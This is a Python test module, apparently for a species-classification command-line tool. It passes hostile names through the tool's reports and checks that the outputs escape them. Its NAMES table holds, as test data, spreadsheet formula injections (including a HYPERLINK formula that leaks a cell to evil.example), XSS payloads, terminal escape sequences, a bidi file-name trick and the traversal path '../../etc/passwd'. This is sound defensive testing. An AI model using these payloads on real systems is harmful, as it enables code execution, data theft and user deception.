"""Hostile names of classes, files, descriptors and columns: outputs can be read again, and say them exactly, or escaped."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from functools import cache, partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final

from PIL import Image

from hostile.case import OK, READ_OR_REFUSED, Case, Outcome
from hostile.inputs import make_png

DRAWING: Final = Path(__file__).parents[3] / "examples" / "drawings" / "amanita-muscaria.png"
NAMES: Final = {
    "equals": "=1+1",
    "plus": "+1-2",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "command": "=cmd|'/c calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "quoted-formula": '"=1+1',
    "apostrophe-formula": "'=1+1",
    "cell-break": 'x",=1+1,"',
    "semicolon-formula": "x;=1+1",
    "fullwidth-equals": "\uff1d1+1",
    "script": "<script>window.hostile=1</script>",
    "image-error": "<img src=x onerror=window.hostile=1>",
    "svg-load": "<svg/onload=window.hostile=1>",
    "end-script": "</script><script>window.hostile=1</script>",
    "end-style": "</style><style>*{display:none}</style>",
    "end-title": "</title><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "base": "<base href=http://evil.example/>",
    "attribute": "\" onmouseover=window.hostile=1 x=\"",
    "apostrophe-attribute": "' autofocus onfocus=window.hostile=1 '",
    "scheme": "javascript:window.hostile=1",
    "data-url": "data:text/html,<script>window.hostile=1</script>",
    "template": "{{ 7*7 }}{% for x in [1] %}{{ x }}{% endfor %}",
    "format-marks": "%s %n {0} {x.__class__} ${7*7} `id` $(id)",
    "comment": "--><!--<b>]]>",
    "entity": "&lt;b&gt; &#60;script&#62; &amp;",
    "markdown": "[x](javascript:window.hostile=1) ![y](http://evil.example/z.png) # h | a | b",
    "console-markup": "[bold red]markup[/] [link=http://evil.example]x[/link] :smile:",
    "escape": "nice\x1b[2J\x1b[31mred",
    "title-escape": "nice\x1b]0;owned\x07",
    "bell": "nice\x07\x08\x08",
    "c1": "nice\x9b2J\x85",
    "override": "photo\u202egpj.exe",
    "isolate": "a\u2066b\u2069c",
    "line-separator": "a\u2028b\u2029c",
    "zero-width": "Parus\u200b major",
    "joiner": "Parus\u200d major",
    "mark": "Parus\ufeff major",
    "tag": "Parus\U000e0041 major",
    "soft-hyphen": "Pa\xadrus major",
    "hebrew": "ירגזי מצוי",
    "persian": "نمی\u200cخواهم",
    "emoji": "👩\u200d🌾 bird",
    "combining": "z" + "\u0301" * 100,
    "parent-folder": "../../etc/passwd",
    "device": "CON",
    "backslash": "C:\\x\\y\\n",
    "quotes": "\"'`´’",
    "dots": "...",
    "number": "1e400",
    "null": "null",
    "nan": "NaN",
}  # fmt: skip
"""By kind."""
LONG: Final = 10_000
IN_FILES: Final = (
    "equals", "command", "quoted-formula", "cell-break", "image-error", "end-script", "attribute", "template", "markdown",
    "escape", "c1", "override", "line-separator", "zero-width", "hebrew", "backslash", "quotes",
)  # fmt: skip
ELSEWHERE: Final = (
    "command",
    "script",
    "end-script",
    "attribute",
    "template",
    "override",
    "escape",
    "zero-width",
    "markdown",
)
"""Kinds that are tried at further places."""
FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")
CONTROLS: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0041]"
)
HANDLER: Final = re.compile(r"on\w+")
REPORTS: Final = ("r.csv", "r.parquet", "r.json", "r.jsonl", "r.html", "r.md", "r.txt", "r.geojson")
EXCHANGE: Final = ("camtrap-dp:dp", "darwin-core:dwc.csv", "inaturalist:inat.csv", "megadetector:md.json")
SAFE: Final = ("csv:safe=true", "darwin-core:safe=true", "inaturalist:safe=true")


def cases() -> Iterator[Case]:
    for kind, name in NAMES.items():
        # A list of labels is split at these, as Python's text is.
        said = "" if kind in ("c1", "line-separator") else name
        yield Case(f"label-{kind}", partial(_classify_labels, name), OK, check=partial(_check_reports, said))
        if kind in IN_FILES:
            file = f"{name.replace('/', '_')}.png"
            yield Case(f"file-{kind}", partial(_classify_file, file), OK, check=partial(_check_reports, file))
        yield Case(f"taxon-{kind}", partial(_convert, name), READ_OR_REFUSED, check=partial(_check_converted, name))
    for kind in ELSEWHERE:
        name = NAMES[kind]
        yield Case(
            f"descriptor-{kind}",
            partial(_classify_descriptor, name),
            OK,
            check=partial(_check_reports, name, tables=False),
        )
        yield Case(
            f"column-{kind}", partial(_classify_column, name), OK, check=partial(_check_reports, name, tables=False)
        )
        yield Case(f"evaluate-{kind}", partial(_evaluate, name), OK, check=_check_evaluation)
        yield Case(f"embed-{kind}", partial(_embed, name), OK, check=partial(_check_embedded, name))
        yield Case(f"list-{kind}", partial(_list, name), OK, check=_check_safe_list)
        # Tables for people; `validate` finds that such a name is no name.
        yield Case(f"show-{kind}", partial(_show, "show", name), (0, 1), check=_check_terminal)
        yield Case(f"validate-{kind}", partial(_show, "validate", name), (0, 1), check=_check_terminal)
        setting = {"BIOCLIP_X_MODEL": name}
        yield Case(f"setting-{kind}", _print_settings, OK, check=_check_terminal, environment=setting)
        yield Case(f"model-{kind}", partial(_name_model, name), (2,), check=_check_terminal)
    for kind in ("equals", "plus", "minus", "at", "command", "link", "apostrophe-formula"):
        for report in SAFE:
            make = partial(_classify_safely, NAMES[kind], report)
            yield Case(f"safe-{report.partition(':')[0]}-{kind}", make, OK, check=_check_defused)
    long = "n" * LONG
    yield Case("label-long", partial(_classify_labels, long), OK, check=partial(_check_reports, long))
    yield Case(
        "descriptor-long", partial(_classify_descriptor, "many words " * 1000), READ_OR_REFUSED, "long|characters"
    )
    yield Case("taxon-long", partial(_convert, long), READ_OR_REFUSED)


@cache
def make_drawing() -> bytes:
    """A drawing that the demonstration model does name."""
    import io

    stream = io.BytesIO()
    with Image.open(DRAWING) as image:
        image.convert("RGB").resize((224, 224)).save(stream, "PNG")
    return stream.getvalue()


def _report(*arguments: str) -> list[str]:
    flags = [part for name in (*REPORTS, *EXCHANGE) for part in ("--report", name)]
    return ["classify", *arguments, *flags]


def _classify_labels(name: str, folder: Path) -> list[str]:
    (folder / "bird.png").write_bytes(make_drawing())
    (folder / "labels.txt").write_text(f"{name}\nParus major\n", "utf-8")
    return _report("bird.png", "--labels", "labels.txt")


def _classify_file(file: str, folder: Path) -> list[str]:
    (folder / file).write_bytes(make_drawing())
    (folder / "labels.txt").write_text("Parus major\nAmanita muscaria\n")
    return _report(f"./{file}", "--labels", "labels.txt")


def _classify_descriptor(name: str, folder: Path) -> list[str]:
    (folder / "bird.png").write_bytes(make_drawing())
    (folder / "labels.txt").write_text("Parus major\nAmanita muscaria\n")
    descriptors = {one: {"descriptor": [name, "a black cap"]} for one in ("Parus major", "Amanita muscaria")}
    document = {"format": "bioclip-x/descriptors/1", "style": "bare", "classes": descriptors}
    (folder / "d.json").write_text(json.dumps(document))
    return _report("bird.png", "--labels", "labels.txt", "--descriptors", "d.json")


def _classify_column(name: str, folder: Path) -> list[str]:
    (folder / "bird.png").write_bytes(make_drawing())
    (folder / "labels.txt").write_text("Parus major\nAmanita muscaria\n")
    (folder / "sites.csv").write_text(_to_csv(["path", "site"], ["bird.png", name]), "utf-8", newline="")
    return _report("bird.png", "--labels", "labels.txt", "--metadata", "sites.csv")


def _classify_safely(name: str, report: str, folder: Path) -> list[str]:
    (folder / f"{name.replace('/', '_')}.png").write_bytes(make_drawing())
    (folder / "labels.txt").write_text(f"{name}\nParus major\n", "utf-8")
    return [
        "classify",
        "--labels",
        "labels.txt",
        "--format",
        report,
        "--output",
        "safe.csv",
        "--",
        f"{name.replace('/', '_')}.png",
    ]


def _convert(name: str, folder: Path) -> list[str]:
    (folder / "in.csv").write_text(
        _to_csv(["family", "species"], ["Paridae", name], ["Paridae", "Parus major"]), "utf-8", newline=""
    )
    return ["taxonomy", "convert", "in.csv", "--output", "out.json"]


def _evaluate(name: str, folder: Path) -> list[str]:
    for taxon in (name.replace("/", "_"), "Parus major"):
        (folder / "set" / taxon).mkdir(parents=True)
        (folder / "set" / taxon / "a.png").write_bytes(make_drawing())
    (folder / "labels.txt").write_text(f"{name.replace('/', '_')}\nParus major\n", "utf-8")
    outputs = ["--output", "e.csv", "--predictions", "p.csv", "--report", "e.html"]
    return ["evaluate", "set", "--labels", "labels.txt", "--safe-csv", *outputs]


def _embed(name: str, folder: Path) -> list[str]:
    (folder / "texts.txt").write_text(f"{name}\nParus major\n", "utf-8")
    return ["embed", "--texts", "texts.txt", "--output", "e.parquet"]


def _list(name: str, folder: Path) -> list[str]:
    table = _to_csv(["family", "species"], [name, "Aaa bbb"], ["Paridae", "Parus major"])
    (folder / "in.csv").write_text(table, "utf-8", newline="")
    return ["taxonomy", "list", "in.csv", "--safe-csv", "--output", "out.csv"]


def _show(command: str, name: str, folder: Path) -> list[str]:
    table = _to_csv(["family", "species"], [name, "Aaa bbb"], ["Paridae", "Parus major"])
    (folder / "in.csv").write_text(table, "utf-8", newline="")
    return ["taxonomy", command, "in.csv"]


def _print_settings(folder: Path) -> list[str]:
    return ["config"]


def _name_model(name: str, folder: Path) -> list[str]:
    (folder / "bird.png").write_bytes(make_png())
    return ["classify", "bird.png", "--model", f"local-dir:{name}"]


def _to_csv(*rows: list[str]) -> str:
    import io

    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return text.getvalue()


def _read_csv(path: Path) -> list[list[str]]:
    encoding = "iso-8859-1" if path.name == "inat.csv" else "utf-8"  # what iNaturalist's import reads
    with path.open(encoding=encoding, newline="") as stream:
        return list(csv.reader(stream, strict=True))


def _check_reports(name: str, outcome: Outcome, *, tables: bool = True) -> str:
    """Every report can be read again; JSON says the name exactly, and pages have no control character.

    tables: whether CSV and Parquet have the name, too. They have an image's best descriptor only, and columns as JSON.
    """
    import pyarrow.parquet as pq

    folder = outcome.folder
    rows = _read_csv(folder / "r.csv")
    if len({len(row) for row in rows}) != 1:
        return "r.csv: rows of different lengths"
    table = pq.read_table(folder / "r.parquet").to_pylist()
    read: dict[str, Any] = {"r.csv": rows, "r.parquet": table}
    read |= {one: json.loads((folder / one).read_text("utf-8")) for one in ("r.json", "r.geojson", "md.json")}
    read["r.jsonl"] = [json.loads(line) for line in (folder / "r.jsonl").read_text("utf-8").split("\n") if line]
    for one in ("r.csv", "r.parquet", "r.json", "r.jsonl") if tables else ("r.json", "r.jsonl"):
        if not _holds(read[one], name):
            return f"{one} does not say {name[:60]!r}"
    exchanged = [*(folder / "dp").glob("*.csv"), folder / "dwc.csv", folder / "inat.csv"]
    for path in exchanged:
        if len({len(row) for row in _read_csv(path)}) > 1:
            return f"{path.name}: rows of different lengths"
    for one in ("r.md", "r.txt"):
        text = (folder / one).read_text("utf-8")
        if found := CONTROLS.search(text):
            return f"{one} has {found[0]!r}"
        if one == "r.md" and re.search(r"(?<!\\)<(script|img|svg|base|meta|style)|(?<!\\)\]\(", text):
            return "r.md has markup"
    return check_page(folder / "r.html") or _check_terminal(outcome)


def _holds(value: Any, name: str) -> bool:
    if isinstance(value, dict):
        return any(_holds(one, name) for pair in value.items() for one in pair)
    if isinstance(value, list):
        return any(_holds(one, name) for one in value)
    return isinstance(value, str) and name in value


class _Page(HTMLParser):
    """Notes what a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.scripts += tag == "script" and given.get("type") != "application/json"
        if tag in ("base", "object", "embed", "iframe", "form") or (
            tag == "meta" and given.get("http-equiv") == "refresh"
        ):
            self.wrong.append(f"<{tag}>")
        self.wrong += [f"<{tag} {name}>" for name in given if HANDLER.fullmatch(name)]
        for name in ("href", "src", "action", "xlink:href"):
            if name in given and not re.match(r"#|data:,?|data:image/", given[name]):
                self.wrong.append(f"<{tag} {name}={given[name][:40]}>")


def check_page(path: Path) -> str:
    """Returns what a browser would run or load of a page, and control characters in it; "" for nothing."""
    text = path.read_text("utf-8")
    page = _Page()
    page.feed(text)
    page.close()
    without_data = re.sub(r'<script type="application/json" id="provenance">.*</script>', "", text)
    if found := CONTROLS.search(without_data):
        page.wrong.append(repr(found[0]))
    if page.scripts > 1:
        page.wrong.append(f"{page.scripts} scripts")
    return f"{path.name}: {', '.join(page.wrong)}" if page.wrong else ""


def _check_terminal(outcome: Outcome) -> str:
    said = outcome.stdout + outcome.stderr
    found = CONTROLS.search(said.replace("\r", ""))
    return f"the terminal gets {found[0]!r}" if found else ""


def _check_defused(outcome: Outcome) -> str:
    """No cell begins a formula unless it is a number."""
    for row in _read_csv(outcome.folder / "safe.csv"):
        for cell in row:
            if cell.startswith(FORMULA) and not _is_number(cell):
                return f"a formula: {cell[:60]!r}"
    return ""


def _is_number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell))


def _check_converted(name: str, outcome: Outcome) -> str:
    if outcome.status:
        return _check_terminal(outcome)
    document = json.loads((outcome.folder / "out.json").read_text("utf-8"))
    return "" if _holds(document, "Parus major") else "the tree is not there"


def _check_evaluation(outcome: Outcome) -> str:
    for file in outcome.folder.glob("*.csv"):
        if file.name != "in.csv":
            for row in _read_csv(file):
                if found := [one for one in row if one.startswith(FORMULA) and not _is_number(one)]:
                    return f"{file.name}: a formula: {found[0][:60]!r}"
    json.loads((outcome.folder / "e.json").read_text("utf-8"))
    return check_page(outcome.folder / "e.html") or _check_terminal(outcome)


def _check_embedded(name: str, outcome: Outcome) -> str:
    import pyarrow.parquet as pq

    rows = pq.read_table(outcome.folder / "e.parquet").to_pylist()
    return "" if _holds(rows[0], name) and len(rows) == 2 else f"not {name[:60]!r}"


def _check_safe_list(outcome: Outcome) -> str:
    rows = _read_csv(outcome.folder / "out.csv")
    found = [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    return f"a formula: {found[0][:60]!r}" if found else ""
